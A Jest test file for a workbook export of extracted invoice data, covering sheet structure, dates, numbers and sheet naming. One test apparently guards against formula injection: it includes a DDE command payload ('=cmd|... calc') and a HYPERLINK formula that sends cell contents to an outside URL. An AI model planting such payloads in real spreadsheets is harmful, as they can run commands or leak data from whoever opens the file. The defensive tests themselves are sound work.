import { afterAll, describe, expect, it } from '@jest/globals';
import { openExtractor, pagesOf } from '../../support/builders/extraction.js';
import { readWorkbook } from '../../support/builders/documents/read-workbook.js';
import { exportOf, resultOf } from '../../support/builders/documents/results.js';
import { openWriter, workbookOf } from '../../support/builders/documents/workbooks.js';

const HEAD = ['document_id', 'filename', 'document_status', 'pages', 'complete'];
const writer = openWriter();

describe('results as a workbook', () => {
  afterAll(() => writer.close());

  it('have a sheet of documents, one for each array, and the evidence', async () => {
    const taxes = { type: 'array', items: { type: 'number' } };
    const properties = {
      number: { type: 'string' },
      issued: { type: 'string', format: 'date' },
      supplier: {
        type: 'object',
        properties: { name: { type: 'string' }, tags: { type: 'array', items: { type: 'string' } } },
      },
      lines: {
        type: 'array',
        items: { type: 'object', properties: { amount: { type: 'number' }, isFree: { type: 'boolean' }, taxes } },
      },
    };
    const first = resultOf({
      number: '007',
      issued: '2026-03-01',
      'supplier.name': 'Größe & <Söhne>',
      'supplier.tags[0]': 'a',
      'lines[0].amount': -5.25,
      'lines[1].isFree': true,
      'lines[1].taxes[0]': 19,
      'lines[1].taxes[1]': 7,
    });
    const second = resultOf({ number: null }, { id: 'doc_2', filename: 'b.pdf', pages: null });

    const workbook = await written(exportOf(properties, [first, second], { isComplete: false }));

    const { evidence = [], ...sheets } = workbook;
    expect(sheets).toEqual({
      documents: [
        [...HEAD, 'number', 'issued', 'supplier.name'],
        ['doc_1', 'invoice.pdf', 'extracted', 1, false, '007', { date: '2026-03-01' }, 'Größe & <Söhne>'],
        ['doc_2', 'b.pdf', 'extracted', null, false],
      ],
      'supplier.tags': [
        ['document_id', 'filename', 'supplier.tags[]', 'value'],
        ['doc_1', 'invoice.pdf', 0, 'a'],
      ],
      lines: [
        ['document_id', 'filename', 'lines[]', 'amount', 'isFree'],
        ['doc_1', 'invoice.pdf', 0, -5.25],
        ['doc_1', 'invoice.pdf', 1, null, true],
      ],
      'lines.taxes': [
        ['document_id', 'filename', 'lines[]', 'lines[].taxes[]', 'value'],
        ['doc_1', 'invoice.pdf', 1, 0, 19],
        ['doc_1', 'invoice.pdf', 1, 1, 7],
      ],
    });
    expect(Object.keys(workbook)).toEqual(['documents', 'supplier.tags', 'lines', 'lines.taxes', 'evidence']);
    expect(evidence).toHaveLength(10);
    expect(evidence[0]?.slice(2)).toEqual([
      'path',
      'value',
      'confidence',
      'page',
      'quote',
      'origin',
      'extractor',
      'status',
      'reason',
    ]);
    expect(evidence[2]).toEqual([
      'doc_1',
      'invoice.pdf',
      'issued',
      { date: '2026-03-01' },
      0.93,
      1,
      'quote of issued',
      'text',
      'builtin',
      'extracted',
    ]);
    expect(evidence[9]).toEqual([
      'doc_2',
      'b.pdf',
      'number',
      null,
      0.93,
      null,
      null,
      null,
      'builtin',
      'extracted',
      'not_found',
    ]);
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://example.com?"&A1,"x")',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    'a\r\nb',
    '=cmd|" /C calc"!A0',
    '12.50',
    '2026-03-01',
    'TRUE',
    '0012',
    ' two  spaces ',
    '<v>1</v>&amp;]]>',
    '_x0041_ and _x000D_',
    '😀 ü \u202e',
    'constructor',
    '__proto__',
    'hasOwnProperty',
    'toString',
    'valueOf',
  ])('have texts as texts: %j', async (text) => {
    const document = resultOf({ text, 'list[0]': text }, { filename: text });
    const properties = { text: { type: 'string' }, list: { type: 'array', items: { type: 'string' } } };

    const { documents, list, evidence } = await written(exportOf(properties, [document]));

    expect([documents?.[1]?.[1], documents?.[1]?.[5], list?.[1]?.[3], evidence?.[1]?.[3]]).toEqual([
      text,
      text,
      text,
      text,
    ]);
  });

  it('have heads and sheets of any name', async () => {
    const properties = Object.fromEntries(
      [
        'constructor',
        '=1+1',
        'a/b:c?*\\',
        'documents',
        'Evidence',
        'history',
        'x'.repeat(200),
        `${'x'.repeat(200).slice(1)}y`,
      ].map((name) => [
        name,
        {
          type: 'array',
          items: {
            type: 'object',
            properties: { '=2+2': { type: 'string' }, toString: { type: 'string' }, filename: { type: 'string' } },
          },
        },
      ]),
    );

    const workbook = await written(exportOf(properties, [resultOf({ 'constructor[0].toString': 'a' })]));

    expect(Object.keys(workbook)).toEqual([
      'documents',
      'constructor',
      '_1_1',
      'a_b_c___',
      'documents (2)',
      'Evidence',
      'history (2)',
      'x'.repeat(31),
      `${'x'.repeat(27)} (2)`,
      'evidence (2)',
    ]);
    expect(workbook['constructor']).toEqual([
      ['document_id', 'filename', 'constructor[]', '=2+2', 'toString', 'fields.filename'],
      ['doc_1', 'invoice.pdf', 0, null, 'a'],
    ]);
  });

  it.each([
    ['the first day whose number all programs agree on', '1900-03-01', { date: '1900-03-01' }],
    ['the last day', '9999-12-31', { date: '9999-12-31' }],
    ['a day before', '1900-02-28', '1900-02-28'],
    ['a day that there is not', '2026-02-30', '2026-02-30'],
  ])('have %s as a day or a text', async (_what, day, cell) => {
    const { documents } = await written(exportOf({ day: { type: 'string', format: 'date' } }, [resultOf({ day })]));

    expect(documents?.[1]?.[5]).toEqual(cell);
  });

  it.each([0, 0.1, -1e-7, 1e21, 2 ** 53 - 1])('have numbers as numbers: %d', async (total) => {
    const { documents } = await written(exportOf({ total: { type: 'number' } }, [resultOf({ total })]));

    expect(documents?.[1]?.[5]).toBe(total);
  });

  it('leave out what XML has no character for, and what does not fit in a cell', async () => {
    const properties = { text: { type: 'string' }, long: { type: 'string' } };
    const document = resultOf({ text: 'a\u0001b\u001fc\ufffed', long: '😀'.repeat(20_000) });

    const { documents } = await written(exportOf(properties, [document]));

    expect(documents?.[1]?.[5]).toBe('abcd');
    expect(documents?.[1]?.[6]).toBe(`${'😀'.repeat(16_383)}…`);
  });

  it('are read by the extractor like any other workbook', async () => {
    using extractor = await openExtractor();
    const properties = {
      number: { type: 'string' },
      issued: { type: 'string', format: 'date' },
      total: { type: 'number' },
    };
    const document = resultOf({ number: '=1+1', issued: '2026-03-01', total: 12.5 });

    const pages = await pagesOf(extractor, await workbookOf(writer, exportOf(properties, [document])), 'results.xlsx');

    expect(pages.map(({ title }) => title)).toEqual(['documents', 'evidence']);
    expect(pages[0]?.text).toContain('doc_1 | invoice.pdf | extracted | 1 | TRUE | =1+1 | 2026-03-01 | 12.5');
  });

  it('are a workbook without rows where there are no documents', async () => {
    const workbook = await written(exportOf({ total: { type: 'number' } }, []));

    expect(Object.values(workbook).map((rows) => rows.length)).toEqual([1, 1]);
  });

  async function written(results: ReturnType<typeof exportOf>) {
    return readWorkbook(await workbookOf(writer, results));
  }
});
